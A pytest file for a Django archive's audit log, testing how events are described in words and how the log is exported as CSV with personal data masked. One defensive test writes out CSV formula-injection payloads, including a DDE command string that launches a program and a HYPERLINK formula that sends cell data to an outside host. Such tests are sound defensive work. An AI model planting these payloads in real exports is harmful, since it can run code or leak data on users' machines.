"""What an event says, in words; and the log as a table for other programs."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.utils import translation

from archive import publishing
from archive.audit import columns, details
from archive.models import Agency, Article, Event
from archive.review import decisions
from archive.text.spreadsheets import csv_lines
from tests.factories import AgencyFactory, ArticleFactory, UserFactory

pytestmark = pytest.mark.django_db


def told(action: str, subject: Any, **data: Any) -> details.Told:
    with translation.override("en"):
        return details.told(Event(action=action, subject_type=subject._meta.model_name, data=data))


class TestWords:
    def test_changed_fields_are_named_with_their_values_before_and_after(self) -> None:
        said = told("agency changed", Agency(), changes={"region": ["", "汐城市"], "confirmed": [False, True]})
        assert said.changes == (("region", "—", "汐城市"), ("confirmed", "no", "yes"))
        with translation.override("en"):
            assert (said.before, said.after) == ("region: —; confirmed: no", "region: 汐城市; confirmed: yes")

    def test_states_are_told_in_words(self) -> None:
        assert told("withdrawn", Article(), before="published", after="withdrawn").changes == (
            ("", "Published", "Withdrawn"),
        )
        assert told("role changed", Article(), was="removed", role="paragraph").changes == (
            ("", "Removed", "Paragraph"),
        )

    def test_names_of_fields_and_numbers_of_blocks_are_those_that_people_see(self) -> None:
        said = told("amended", Article(), fields=["body", "title"], block=0, version=3)
        assert [(one.label, one.value) for one in said.rest] == [("block", "1"), ("fields", "text, title")]

    def test_values_that_events_keep_by_field_are_told_field_by_field(self) -> None:
        values = {"before": {"title": "旧"}, "after": {"title": "新"}}
        said = told("amended", Article(), fields=["body", "title"], **values)
        assert said.changes == (("title", "旧", "新"),)
        assert [(one.label, one.value) for one in said.rest] == [("fields", "text")]

    def test_personal_data_that_was_found_later_is_covered(self) -> None:
        number = "13800138000"
        event = Event(
            action="x", data={"reason": number, "changes": {"title": [number, [number]]}, "name": {"a": number}}
        )
        said = details.told(event, hide={number})
        assert number not in repr(said) and repr(said).count("█" * 11) == 4

    def test_a_persons_reason_is_why_and_the_key_of_a_rule_is_not(self) -> None:
        assert told("merged", Agency(), reason="重复").why == "重复"
        said = told("block restored", Article(), reason="share", rule="share-bar")
        assert said.why == "" and ("Share bar" in [one.value for one in said.rest])

    def test_a_leak_check_names_its_result_and_every_place_that_it_looked_at(self) -> None:
        pages = {"archive:article": 3, "archive:day": 3, "some:new-route": 1}
        index = {"asked": 4, "found": 0, "waiting": False, "since": "2026-11-22T02:03:04+00:00"}
        report = {"result": "clean", "traces": 4, "pages": pages, "leaks": [], "failed": [], "elsewhere": [12]}
        said = told("leak check", Article(), **report, passed_over=["archive:agency"], remains={"index": index})
        assert {one.label: one.value for one in said.rest} == {
            "result": "Nothing left",
            "words looked for": "4",
            "looked at": "Article page × 3, Page of the day × 3, some:new-route × 1",
            "Files of the index": "4 asked, 0 found · free of removed words since 2026-11-22 10:03",
            "passed over": "Page of an agency",
            "other articles with the same words": "12",
        }
        assert said.changes == () and said.why == ""

    def test_a_leak_that_was_found_is_named_with_its_place(self) -> None:
        report = {"result": "leak", "leaks": [["/a/x/", 2]], "failed": ["/b/"]}
        waiting = {"results": {"asked": 1, "found": 1, "waiting": True, "since": None}}
        said = {one.label: one.value for one in told("leak check", Article(), **report, remains=waiting).rest}
        assert (said["still to be found"], said["could not be looked at"]) == ("/a/x/ × 2", "/b/")
        assert said["Search results"] == "1 asked, 1 found · hidden, and taken out in a moment"

    @pytest.mark.parametrize("data", [{}, {"result": "x"}, {"remains": {}, "pages": {}}])
    def test_a_leak_check_of_which_little_was_written_down_is_told_too(self, data: dict[str, Any]) -> None:
        assert told("leak check", Article(), **data).rest

    @pytest.mark.parametrize(
        "data", [{}, {"x": None}, {"x": {"b": [1]}}, {"fields": []}, {"changes": {}}, {"before": 1}]
    )
    def test_what_nobody_gave_words_to_is_shown_as_it_is_stored(self, data: dict[str, Any]) -> None:
        said = told("x", Article(), **data)
        assert isinstance(said.before + said.after + said.why, str)


class TestTable:
    def test_reasons_of_reviews_stand_with_their_events_and_personal_data_is_covered(self) -> None:
        by = UserFactory(username="reviewer")
        article, other = ArticleFactory(), ArticleFactory()
        article.findings.create(kind="mobile-number", text="13800138000")
        decisions.return_to_uploader(article, by=by, reason="删去13800138000")
        publishing.publish(other, by=by, reason="已核对")
        rows = list(columns.rows(Event.objects.order_by("pk")))
        assert len(rows) == 3 and len({len(row) for row in rows}) == 1
        assert [row[7] for row in rows[1:]] == ["删去███████████", "已核对"]
        assert [(row[2], row[4], row[6]) for row in rows[1:]] == [
            ("reviewer", "returned", str(article.pk)), ("reviewer", "published", str(other.pk)),
        ]  # fmt: skip

    def test_no_cell_of_what_people_typed_is_taken_for_a_formula(self) -> None:
        by = UserFactory(username="=cmd|'/C calc'!A0")
        for words in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://example.org?"&A1)'):
            Event.objects.record("merged", AgencyFactory(), actor=by, reason=words, name=words)
        text = "".join(csv_lines(columns.rows(Event.objects.order_by("pk"))))
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r＝") or cell.lstrip(" \u3000")[:1] == "="]
        assert "'=1+1" in cells

    def test_is_read_in_portions_of_a_few_queries_each(self, django_assert_max_num_queries: Any) -> None:
        article = ArticleFactory()
        for n in range(1100):
            Event.objects.record("amended", article, n=n) if n % 100 == 0 else None
        with django_assert_max_num_queries(6):
            assert len(list(columns.rows(Event.objects.order_by("pk")))) == 12
